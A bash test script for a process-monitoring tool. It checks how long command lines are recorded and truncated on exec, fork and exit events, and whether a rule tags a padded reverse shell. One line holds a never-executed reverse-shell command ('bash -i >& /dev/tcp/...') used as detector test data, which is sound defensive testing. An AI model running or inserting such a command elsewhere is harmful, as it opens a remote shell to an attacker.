#!/bin/bash
# Long command lines: an exec line carries the whole command line up to
# 256 KiB, and says argv_truncated with the whole length past that; the
# rules judge the tail (a /dev/tcp/ after 33,000 bytes of padding); the fork
# and exit lines of a process with a 32 KiB command line of control bytes
# (6 bytes each in JSON) stay within 8 KiB, their cut marked.
. "${LIVE_LIB:-$(dirname "$0")/lib.sh}"
need_root

# rep N CHAR: N times CHAR.
rep() {
	head -c "$1" /dev/zero | tr '\0' "$2"
}

start_sw --pid $$

# hold MARK ARGS...: a process whose command line is MARK ARGS after
# "bash -c 'sleep 0.3; :'" (21 bytes), alive while it is read.
hold() {
	bash -c 'sleep 0.3; :' "$@"
}

# 40,000 bytes in one argument, and 200,000 in 20: whole on the exec line.
big=$(rep 40000 x)
hold "$MARK-40k" "$big"
args=()
for _ in $(seq 20); do args+=("$(rep 10000 y)"); done
hold "$MARK-200k" "${args[@]}"
# 600,000 in 6 (each under the kernel's 128 KiB a string): cut at 256 KiB.
huge=()
for _ in $(seq 6); do huge+=("$(rep 100000 z)"); done
hold "$MARK-600k" "${huge[@]}"
huge_len=$((21 + ${#MARK} + 6 + 6 * 100001))

# The reverse shell after 33,000 bytes of padding (never run: "true ||").
pad=$(rep 33000 a)
bash -c ": $pad; true || bash -i >& /dev/tcp/127.0.0.1/9 0>&1" "$MARK-tcp"

# A parent whose command line is 32 KiB of control bytes forks 20 children.
ctl=$(rep 32768 '\001')
bash -c 'for i in 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16 17 18 19 20; do ( : ); done' \
	"$MARK-ctl" "$ctl" &
ctl_pid=$!
wait "$ctl_pid"

# The sentinel stays until its exec line is out (its command line read),
# then ends: its exit line is the last of the test's.
(exec -a "$MARK" sleep 60) &
sentinel=$!
wait_until 20 has '.event == "exec" and .argv[0] == $mark' || fail "sentinel's exec not seen"
kill "$sentinel"
wait "$sentinel" 2>/dev/null
wait_until 20 has '.event == "exit" and .argv[0] == $mark' || fail "sentinel's exit not seen"
stop_sw
check_stream

has '.event == "exec" and .argv[3] == ($mark + "-40k") and (.argv[4] | length) == 40000
	and (has("argv_truncated") | not)' ||
	fail "40,000-byte argument not whole on its exec line"
has '.event == "exec" and .argv[3] == ($mark + "-200k") and (.argv | length) == 24
	and ([.argv[4:][] | length] | add) == 200000 and (has("argv_truncated") | not)' ||
	fail "200,000 bytes in 20 arguments not whole on their exec line"
# Its exit line carries what the table keeps: the start, and the length.
has '.event == "exit" and .argv[3] == ($mark + "-40k") and .argv_truncated
	and .argv_len == (21 + ($mark | length) + 5 + 40001)' ||
	fail "exit line of the 40k process: $(count '.event == "exit" and .argv[3] == ($mark + "-40k")')"
pass "40,000 and 200,000 bytes whole at exec; the exit line marks its cut"

has ".event == \"exec\" and .argv[3] == (\$mark + \"-600k\") and .argv_truncated
	and .argv_len == $huge_len and ([.argv[] | length + 1] | add) - 1 <= 262144" ||
	fail "600 KB command line: $(jq -c --arg mark "$MARK" 'select(.event == "exec" and .argv[3] == ($mark + "-600k")) | {argv_truncated, argv_len, held: ([.argv[] | length + 1] | add)}' "$OUT")"
pass "a 600 KB command line: 256 KiB of it on the exec line, argv_len $huge_len"

has '.event == "exec" and .argv[3] == ($mark + "-tcp") and (.tags // [] | index(["reverse-shell"]))' ||
	fail "/dev/tcp/ after 33,000 bytes not tagged: $(jq -c --arg mark "$MARK" 'select(.event == "exec" and .argv[3] == ($mark + "-tcp")) | {tags, n: (.argv[2] | length)}' "$OUT")"
pass "reverse-shell found after 33,000 bytes of padding"

has ".event == \"exec\" and .pid == $ctl_pid and (.argv[4] | length) == 32768" ||
	fail "the control-byte command line is not whole on its exec line"
LC_ALL=C grep -aF "\"ppid\":$ctl_pid," "$OUT" | LC_ALL=C grep -a '"event":"fork"' >"$TMP/forks"
forks=$(wc -l <"$TMP/forks")
[ "$forks" -ge 20 ] || fail "$forks fork lines of the control-byte parent, not 20"
jq -r '.pid' "$TMP/forks" | while read -r child; do
	LC_ALL=C grep -a "\"event\":\"exit\",\"pid\":$child," "$OUT"
done >"$TMP/exits"
LC_ALL=C grep -a "\"event\":\"exit\",\"pid\":$ctl_pid," "$OUT" >>"$TMP/exits"
exits=$(wc -l <"$TMP/exits")
[ "$exits" -ge 21 ] || fail "$exits exit lines of the parent and its children, not 21"
most=$(cat "$TMP/forks" "$TMP/exits" | LC_ALL=C awk '{ n = length($0) + 1; if (n > m) m = n } END { print m }')
[ "$most" -le 8192 ] || fail "a fork or exit line of $most bytes"
unmarked=$(cat "$TMP/forks" "$TMP/exits" | jq -c 'select(.argv_truncated != true)' | wc -l)
[ "$unmarked" = 0 ] || fail "$unmarked fork or exit lines without argv_truncated"
pass "$forks forks and $exits exits of a 32 KiB control-byte parent: at most $most bytes a line, each cut marked"
